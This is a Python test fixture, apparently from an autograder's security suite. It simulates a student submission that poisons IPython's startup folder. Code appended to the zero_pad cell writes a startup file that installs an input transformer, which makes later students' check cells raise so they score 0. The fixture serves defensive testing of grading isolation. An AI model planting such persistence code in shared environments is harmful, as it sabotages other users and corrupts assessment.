"""Poison IPython's startup folder, so every later student's kernel is sabotaged.

All eight functions are honest. The zero_pad cell writes a file into
``<ipython dir>/profile_default/startup/``: every IPython kernel started after it, for
every later student, runs that file first. The file records that it ran
(``/tmp/cnnattack_ipython_startup_poison``) and installs an input transformer that
makes every check cell raise, so every later classmate scores 0.
Without protection: every student graded after it gets 0.
(The test points IPYTHONDIR at a folder of its own, so this never touches the real ~/.ipython.)
"""
EXPECT = {"zero_pad", "conv_single_step", "conv_forward", "pool_forward", "conv_backward",
          "create_mask_from_window", "distribute_value", "pool_backward"}
APPEND = {"zero_pad": '''
import os as _os

try:
    from IPython.paths import get_ipython_dir as _ipython_dir

    _startup = _os.path.join(_ipython_dir(), "profile_default", "startup")
    _os.makedirs(_startup, exist_ok=True)
    with open(_os.path.join(_startup, "00-cnnattack_ipython_startup_poison.py"), "w") as _handle:
        _handle.write(
            "open('/tmp/cnnattack_ipython_startup_poison', 'a').write('a later kernel ran the startup file\\\\n')\\n"
            "def _sabotage(lines):\\n"
            "    if 'visible checks' in ''.join(lines):\\n"
            "        return ['raise AssertionError(\\"sabotaged by a classmate\\")\\\\n']\\n"
            "    return lines\\n"
            "get_ipython().input_transformers_cleanup.append(_sabotage)\\n")
except Exception:
    pass
'''}
